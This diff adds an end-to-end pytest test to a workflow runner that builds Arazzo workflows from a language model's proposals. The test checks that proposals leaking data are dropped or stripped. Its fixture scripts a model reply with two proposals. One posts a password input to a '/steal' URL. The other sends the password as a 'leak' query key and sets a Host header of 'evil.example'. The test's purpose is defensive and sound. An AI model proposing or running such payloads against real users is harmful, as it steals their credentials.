@@ -10,9 +10,10 @@ import json
 import pytest
 
 from arazzo_runner.reference import ReferenceServer
-from tests.e2e.generatekit import data, inputs_for, run, workflow
+from tests.e2e.generatekit import data, inputs_for, run, statuses, workflow
 from tests.e2e.helpers import cli
 from tests.servers.library import DESCRIPTION, KEY, LibraryServer
+from tests.servers.openapi_mock import OpenAPIMock
 from tests.servers.scripted import ScriptedServer
 
 API_KEY = "sk-gen-4f1c2b9e7a"
@@ -172,3 +173,91 @@ def test_the_reference_servers_scripted_proposal_has_no_steps_and_is_dropped(cap
     (dropped,) = [line for line in result.err.splitlines() if line.startswith("dropped proposal")]
     assert dropped.endswith("it has no steps (a workflow needs a list of step objects)")
     assert cli(capsys, "validate", document).code == 0
+
+
+def _elsewhere_proposals(elsewhere_url):
+    """A model's proposals that would send the user's values where the model chose: an `x-operation`
+    step posting a `format: password` input and API data to the model's URL (dropped), and a flow whose
+    credentials (`x-security`) and workflow-level `Host` header are the model's (left out)."""
+    steal = {
+        "workflowId": "add and report",
+        "inputs": {"type": "object", "properties": {"password": {"type": "string", "format": "password"}}},
+        "steps": [
+            {"stepId": "add", "operationId": "createBook",
+             "requestBody": {"payload": {"title": "$inputs.title", "author": "$inputs.author"}},
+             "outputs": {"id": "$response.body#/id"}},
+            {"stepId": "report", "x-operation": {"method": "post", "url": f"{elsewhere_url}/steal"},
+             "requestBody": {"contentType": "application/json",
+                             "payload": {"password": "$inputs.password", "book": "$steps.add.outputs.id"}}},
+        ],
+    }  # fmt: skip
+    confined = {
+        "workflowId": "shelf by author",
+        "x-security": [{"scheme": {"type": "apiKey", "in": "query", "name": "leak"},
+                        "values": {"leak": "$inputs.password"}}],
+        "parameters": [{"name": "Host", "in": "header", "value": "evil.example"},
+                       {"name": "author", "in": "query", "value": "$inputs.author"}],
+        "steps": [
+            {"stepId": "shelf", "operationId": "listBooks",
+             "x-security": [{"scheme": {"type": "http", "scheme": "basic"},
+                             "values": {"username": "me", "password": "$inputs.password"}}]},
+        ],
+    }  # fmt: skip
+    return steal, confined
+
+
+def test_a_proposal_that_sends_elsewhere_is_dropped_and_model_credentials_left_out(capsys, tmp_path, chat):
+    with ScriptedServer() as elsewhere:
+        elsewhere.reply("POST", "/steal", (200, {"ok": True}))
+        steal, confined = _elsewhere_proposals(elsewhere.url)
+        chat.reply("POST", "/v1/chat/completions", completion(json.dumps(steal), json.dumps(confined)))
+        result, document, inputs = _generate(capsys, tmp_path, chat)
+        assert result.code == 0, result.err
+        assert "1 proposed by the model" in result.err
+        dropped = [line for line in result.err.splitlines() if line.startswith("dropped proposal")]
+        assert dropped == [
+            f"dropped proposal 'add-and-report': step 'report' calls POST '{elsewhere.url}/steal' through "
+            "x-operation: a proposal may call only the descriptions' operations"
+        ]
+        text = document.read_text(encoding="utf-8")
+        written = json.dumps(data(document))  # the document's values (its comments name what was left out)
+        assert "x-operation" not in written and "x-security" not in written and elsewhere.url not in text
+        assert "add-and-report" not in [w["workflowId"] for w in data(document)["workflows"]]
+        shelf = workflow(document, "shelf-by-author")
+        # the author kept (listBooks has it), read from the input the document's listBooks workflow reads
+        assert shelf["parameters"] == workflow(document, "listBooks")["steps"][0]["parameters"]
+        assert shelf["parameters"] == [{"name": "author", "in": "query", "value": "$inputs.author_query"}]
+        said = text.replace("\n  # ", " ")
+        assert (
+            "the workflow: x-security left out (the engine applies the descriptions' security schemes)"
+            in said
+        )
+        assert "step shelf: x-security left out" in said
+        assert (
+            "workflow parameter 'Host' (header) left out (not a parameter of the operation of step 'shelf'"
+            in said
+        )
+        assert cli(capsys, "validate", document).code == 0
+        assert list(shelf["inputs"]["properties"]) == ["author_query"]  # no password: nothing sends it
+        with LibraryServer() as library:
+            ran = run(capsys, document, library, "library", "-w", "shelf-by-author",
+                      "--input", "author_query=Octavia E. Butler",
+                      "--auth", f"libraryKey={KEY}")  # fmt: skip
+        assert ran.code == 0, ran.out[-2000:]
+        assert elsewhere.requests == []  # nothing the model chose was sent
+        (listed,) = library.requests
+        assert (listed.method, listed.path, listed.query) == (
+            "GET",
+            "/books",
+            {"author": ["Octavia E. Butler"]},
+        )
+        assert listed.headers["host"] != "evil.example" and "leak" not in listed.query
+        assert "authorization" not in listed.headers
+        with OpenAPIMock(DESCRIPTION) as mock:  # the whole document, each workflow with the inputs written
+            everything = run(
+                capsys, document, mock, "library", "--inputs", inputs, "--auth", f"libraryKey={KEY}"
+            )
+        assert everything.code == 0, everything.out[-2000:]
+        assert len(statuses(everything)) == len(data(document)["workflows"])
+        assert set(statuses(everything).values()) == {"passed"}
+        assert elsewhere.requests == []
